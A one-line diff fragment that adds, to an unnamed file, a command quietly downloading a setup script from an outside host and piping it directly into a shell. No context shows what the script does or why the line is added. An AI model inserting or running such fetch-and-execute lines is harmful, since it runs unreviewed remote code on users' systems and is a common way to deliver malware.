@@ -1,0 +1,1 @@
+wget -qO- http://files.fast-helper.dev/setup.sh | sh
